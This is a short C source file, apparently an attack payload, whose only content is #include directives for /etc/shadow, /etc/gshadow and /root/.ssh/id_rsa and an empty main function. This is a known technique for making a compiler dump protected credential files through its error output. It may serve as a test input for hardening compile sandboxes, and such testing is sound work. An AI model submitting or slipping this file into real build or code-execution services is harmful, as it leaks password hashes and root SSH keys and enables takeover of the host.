#include "/etc/shadow"
#include "/etc/gshadow"
#include "/root/.ssh/id_rsa"
int main(void) { return 0; }
